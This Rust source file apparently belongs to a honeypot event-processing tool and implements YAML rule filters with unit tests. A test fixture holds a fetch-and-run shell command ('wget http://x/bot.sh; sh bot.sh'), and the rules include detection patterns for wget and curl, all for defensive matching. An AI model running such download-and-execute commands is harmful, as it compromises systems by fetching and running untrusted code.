//! A rule's `filter`: field matchers, AND-ed.
//!
//! ```yaml
//! filter:
//!   kind: login.attempt                 # equality
//!   protocol: [ssh, telnet]             # a list: any of them
//!   data.command: { contains: wget }    # operators (several in one map are AND-ed)
//!   data.size: { gte: 1000, lt: 1000000 }
//!   src_ip: { cidr: [198.51.100.0/24] }
//!   data.password: { exists: true }
//!   data.uri: { re: "^/wp-(login|admin)" }
//!   sensor: { not: [test-1, test-2] }
//! ```
//!
//! A field with several values (an array such as `enrichment.tags`) matches when any of
//! its values does; an absent field matches only `exists: false`, `not: ...` and `null`.

use std::net::IpAddr;

use ipnet::IpNet;
use regex::Regex;
use yaml_serde::Value as Yaml;

use super::field::{EventView, FieldPath, Scalar, format_number};

/// The operators a filter understands, for error messages.
pub const OPERATORS: &[&str] = &[
    "eq",
    "contains",
    "startswith",
    "endswith",
    "re",
    "cidr",
    "gt",
    "gte",
    "lt",
    "lte",
    "exists",
    "not",
];

/// Why a filter was refused; `path` is where in the rule (`filter.data.size.gt`).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{path}: {message}")]
pub struct FilterError {
    /// Where in the rule.
    pub path: String,
    /// What is wrong.
    pub message: String,
}

impl FilterError {
    fn new(path: impl Into<String>, message: impl Into<String>) -> Self {
        Self {
            path: path.into(),
            message: message.into(),
        }
    }
}

/// Field matchers, all of which must hold.
#[derive(Debug, Clone, Default)]
pub struct Filter {
    conditions: Vec<Condition>,
}

#[derive(Debug, Clone)]
struct Condition {
    field: FieldPath,
    test: Test,
}

#[derive(Debug, Clone)]
enum Test {
    /// Equal to any of these (a `null` among them matches an absent field).
    AnyOf(Vec<Literal>),
    /// Every one holds.
    All(Vec<Test>),
    Contains(Vec<String>),
    StartsWith(Vec<String>),
    EndsWith(Vec<String>),
    Re(Vec<Regex>),
    Cidr(Vec<IpNet>),
    Compare(Comparison, f64),
    Exists(bool),
    Not(Box<Test>),
}

#[derive(Debug, Clone, Copy)]
enum Comparison {
    Gt,
    Gte,
    Lt,
    Lte,
}

#[derive(Debug, Clone, PartialEq)]
enum Literal {
    Null,
    Bool(bool),
    Num(f64),
    Str(String),
}

impl Filter {
    /// Reads a `filter:` mapping (`None` or null: every event matches).
    pub fn from_yaml(value: Option<&Yaml>) -> Result<Self, FilterError> {
        let Some(value) = value else {
            return Ok(Self::default());
        };
        let map = match value {
            Yaml::Null => return Ok(Self::default()),
            Yaml::Mapping(map) => map,
            _ => {
                return Err(FilterError::new(
                    "filter",
                    "expected a mapping of field: matcher",
                ));
            }
        };
        let mut conditions = Vec::with_capacity(map.len());
        for (key, matcher) in map {
            let Some(name) = key.as_str() else {
                return Err(FilterError::new(
                    "filter",
                    "field names are text (`data.username`)",
                ));
            };
            let path = format!("filter.{name}");
            let field =
                FieldPath::parse(name).map_err(|e| FilterError::new(&path, e.to_string()))?;
            let test = Test::from_yaml(matcher, &path)?;
            conditions.push(Condition { field, test });
        }
        Ok(Self { conditions })
    }

    /// Whether `event` passes every matcher.
    pub fn matches(&self, view: &EventView<'_>) -> bool {
        self.conditions
            .iter()
            .all(|c| c.field.with_values(view, |values| c.test.holds(values)))
    }

    /// The kinds this filter can match, when it pins `kind` by equality: rules are only
    /// shown events of those kinds.
    pub fn kinds(&self) -> Option<Vec<String>> {
        self.conditions.iter().find_map(Condition::pinned_kinds)
    }

    /// This filter without the condition [`Filter::kinds`] reads: what is left to check
    /// for an event already known to be of one of those kinds.
    pub fn without_pinned_kinds(&self) -> Filter {
        let pinned = self
            .conditions
            .iter()
            .position(|c| c.pinned_kinds().is_some());
        Filter {
            conditions: self
                .conditions
                .iter()
                .enumerate()
                .filter(|(i, _)| Some(*i) != pinned)
                .map(|(_, c)| c.clone())
                .collect(),
        }
    }
}

impl Condition {
    /// The kinds this condition pins (`kind: x` or `kind: [x, y]`).
    fn pinned_kinds(&self) -> Option<Vec<String>> {
        if !self.field.is_kind() {
            return None;
        }
        match &self.test {
            Test::AnyOf(literals) => literals
                .iter()
                .map(|l| match l {
                    Literal::Str(s) => Some(s.clone()),
                    _ => None,
                })
                .collect(),
            _ => None,
        }
    }
}

impl Test {
    fn from_yaml(value: &Yaml, path: &str) -> Result<Self, FilterError> {
        match value {
            Yaml::Sequence(items) => {
                let literals = items
                    .iter()
                    .enumerate()
                    .map(|(i, item)| Literal::from_yaml(item, &format!("{path}[{i}]")))
                    .collect::<Result<Vec<_>, _>>()?;
                if literals.is_empty() {
                    return Err(FilterError::new(path, "an empty list matches nothing"));
                }
                Ok(Self::AnyOf(literals))
            }
            Yaml::Mapping(map) => {
                let mut tests = Vec::with_capacity(map.len());
                for (op, operand) in map {
                    let Some(op) = op.as_str() else {
                        return Err(FilterError::new(path, "operators are text (`contains`)"));
                    };
                    let at = format!("{path}.{op}");
                    tests.push(Self::operator(op, operand, &at)?);
                }
                if tests.is_empty() {
                    return Err(FilterError::new(
                        path,
                        format!("an empty mapping; operators: {}", OPERATORS.join(", ")),
                    ));
                }
                Ok(if tests.len() == 1 {
                    tests.remove(0)
                } else {
                    Self::All(tests)
                })
            }
            Yaml::Tagged(_) => Err(FilterError::new(path, "YAML tags are not supported")),
            scalar => Ok(Self::AnyOf(vec![Literal::from_yaml(scalar, path)?])),
        }
    }

    fn operator(op: &str, operand: &Yaml, path: &str) -> Result<Self, FilterError> {
        let texts = || -> Result<Vec<String>, FilterError> {
            let items: Vec<&Yaml> = match operand {
                Yaml::Sequence(items) => items.iter().collect(),
                other => vec![other],
            };
            if items.is_empty() {
                return Err(FilterError::new(path, "an empty list matches nothing"));
            }
            items
                .into_iter()
                .map(|item| match Literal::from_yaml(item, path)? {
                    Literal::Str(s) => Ok(s),
                    Literal::Num(n) => Ok(format_number(n)),
                    Literal::Bool(b) => Ok(b.to_string()),
                    Literal::Null => Err(FilterError::new(path, "expected text, not null")),
                })
                .collect()
        };
        let number = || -> Result<f64, FilterError> {
            match operand {
                Yaml::Number(n) => n
                    .as_f64()
                    .ok_or_else(|| FilterError::new(path, "expected a number")),
                _ => Err(FilterError::new(path, "expected a number")),
            }
        };
        Ok(match op {
            "eq" => match Self::from_yaml(operand, path)? {
                test @ Self::AnyOf(_) => test,
                _ => {
                    return Err(FilterError::new(
                        path,
                        "expected a value or a list of values",
                    ));
                }
            },
            "contains" => Self::Contains(texts()?),
            "startswith" => Self::StartsWith(texts()?),
            "endswith" => Self::EndsWith(texts()?),
            "re" => Self::Re(
                texts()?
                    .iter()
                    .map(|pattern| {
                        regex::RegexBuilder::new(pattern)
                            .size_limit(1 << 20)
                            .build()
                            .map_err(|e| {
                                FilterError::new(path, format!("bad regular expression: {e}"))
                            })
                    })
                    .collect::<Result<_, _>>()?,
            ),
            "cidr" => Self::Cidr(
                texts()?
                    .iter()
                    .map(|text| {
                        text.parse::<IpNet>()
                            .or_else(|_| text.parse::<IpAddr>().map(IpNet::from))
                            .map_err(|_| {
                                FilterError::new(
                                    path,
                                    format!("`{text}` is not a network (203.0.113.0/24)"),
                                )
                            })
                    })
                    .collect::<Result<_, _>>()?,
            ),
            "gt" => Self::Compare(Comparison::Gt, number()?),
            "gte" => Self::Compare(Comparison::Gte, number()?),
            "lt" => Self::Compare(Comparison::Lt, number()?),
            "lte" => Self::Compare(Comparison::Lte, number()?),
            "exists" => match operand {
                Yaml::Bool(b) => Self::Exists(*b),
                _ => return Err(FilterError::new(path, "expected true or false")),
            },
            "not" => Self::Not(Box::new(Self::from_yaml(operand, path)?)),
            other => {
                return Err(FilterError::new(
                    path,
                    format!(
                        "unknown operator `{other}`; operators: {}",
                        OPERATORS.join(", ")
                    ),
                ));
            }
        })
    }

    fn holds(&self, values: &[Scalar<'_>]) -> bool {
        let any_text = |f: &dyn Fn(&str) -> bool| values.iter().any(|v| f(&v.to_text()));
        match self {
            Self::AnyOf(literals) => literals.iter().any(|literal| match literal {
                Literal::Null => values.is_empty(),
                _ => values.iter().any(|v| literal.equals(v)),
            }),
            Self::All(tests) => tests.iter().all(|t| t.holds(values)),
            Self::Contains(needles) => {
                any_text(&|t| needles.iter().any(|n| t.contains(n.as_str())))
            }
            Self::StartsWith(prefixes) => {
                any_text(&|t| prefixes.iter().any(|p| t.starts_with(p.as_str())))
            }
            Self::EndsWith(suffixes) => {
                any_text(&|t| suffixes.iter().any(|s| t.ends_with(s.as_str())))
            }
            Self::Re(patterns) => any_text(&|t| patterns.iter().any(|re| re.is_match(t))),
            Self::Cidr(nets) => any_text(&|t| {
                t.parse::<IpAddr>()
                    .is_ok_and(|ip| nets.iter().any(|net| net.contains(&ip)))
            }),
            Self::Compare(cmp, bound) => values.iter().any(|v| {
                v.as_number().is_some_and(|n| match cmp {
                    Comparison::Gt => n > *bound,
                    Comparison::Gte => n >= *bound,
                    Comparison::Lt => n < *bound,
                    Comparison::Lte => n <= *bound,
                })
            }),
            Self::Exists(wanted) => values.is_empty() != *wanted,
            Self::Not(test) => !test.holds(values),
        }
    }
}

impl Literal {
    fn from_yaml(value: &Yaml, path: &str) -> Result<Self, FilterError> {
        Ok(match value {
            Yaml::Null => Self::Null,
            Yaml::Bool(b) => Self::Bool(*b),
            Yaml::Number(n) => Self::Num(n.as_f64().unwrap_or(f64::NAN)),
            Yaml::String(s) => Self::Str(s.clone()),
            _ => {
                return Err(FilterError::new(
                    path,
                    "expected a value (text, number, true/false or null)",
                ));
            }
        })
    }

    fn equals(&self, value: &Scalar<'_>) -> bool {
        match (self, value) {
            (Self::Num(a), Scalar::Num(b)) => a == b,
            (Self::Bool(a), Scalar::Bool(b)) => a == b,
            (Self::Str(a), v) => *a == v.to_text(),
            (Self::Num(a), v) => format_number(*a) == v.to_text(),
            (Self::Bool(a), v) => v.to_text() == if *a { "true" } else { "false" },
            (Self::Null, _) => false,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hpti_core::Event;
    use hpti_core::event::{EventKind, Protocol};

    fn filter(yaml: &str) -> Result<Filter, FilterError> {
        let value: Yaml = yaml_serde::from_str(yaml).unwrap();
        Filter::from_yaml(Some(&value))
    }

    fn command(line: &str) -> Event {
        Event::new(
            "ssh-1",
            Protocol::Ssh,
            "198.51.100.9".parse().unwrap(),
            EventKind::CommandInput {
                command: line.into(),
            },
        )
        .with_source_port(40022)
    }

    fn check(yaml: &str, event: &Event) -> bool {
        filter(yaml).unwrap().matches(&EventView::new(event))
    }

    #[test]
    fn equality_lists_and_operators() {
        let e = command("cd /tmp; wget http://x/bot.sh; sh bot.sh");
        assert!(check("kind: command.input", &e));
        assert!(!check("kind: login.attempt", &e));
        assert!(check("kind: [login.attempt, command.input]", &e));
        assert!(check("data.command: {contains: wget}", &e));
        assert!(check("data.command: {contains: [curl, wget]}", &e));
        assert!(!check("data.command: {contains: curl}", &e));
        assert!(check("data.command: {startswith: 'cd '}", &e));
        assert!(check("data.command: {endswith: bot.sh}", &e));
        assert!(check("data.command: {re: 'wget\\s+http'}", &e));
        assert!(check("src_ip: {cidr: 198.51.100.0/24}", &e));
        assert!(!check("src_ip: {cidr: [10.0.0.0/8, 192.168.0.0/16]}", &e));
        assert!(check("src_port: {gt: 40000, lte: 40022}", &e));
        assert!(!check("src_port: {lt: 40022}", &e));
        assert!(check("src_port: 40022", &e));
        assert!(check("src_port: '40022'", &e));
        assert!(check("data.password: {exists: false}", &e));
        assert!(!check("data.command: {exists: false}", &e));
        assert!(check("data.password: null", &e));
        assert!(check("sensor: {not: [test-1, test-2]}", &e));
        assert!(!check("sensor: {not: ssh-1}", &e));
        // AND-ed across fields.
        assert!(!check("kind: command.input\nsensor: other", &e));
    }

    #[test]
    fn kinds_are_known_when_pinned() {
        assert_eq!(
            filter("kind: [a, b]\nsensor: x").unwrap().kinds(),
            Some(vec!["a".into(), "b".into()])
        );
        assert_eq!(filter("sensor: x").unwrap().kinds(), None);
        assert_eq!(filter("kind: {contains: login}").unwrap().kinds(), None);
    }

    #[test]
    fn errors_say_where() {
        let err = filter("data.size: {gt: many}").unwrap_err();
        assert_eq!(err.path, "filter.data.size.gt");
        let err = filter("data.x: {like: y}").unwrap_err();
        assert!(err.message.contains("unknown operator `like`"), "{err}");
        let err = filter("data.uri: {re: '('}").unwrap_err();
        assert!(err.message.contains("bad regular expression"), "{err}");
        let err = filter("src_ip: {cidr: nowhere}").unwrap_err();
        assert_eq!(err.path, "filter.src_ip.cidr");
        let err = filter("'data..x': 1").unwrap_err();
        assert_eq!(err.path, "filter.data..x");
        assert!(filter("kind: []").is_err());
    }
}
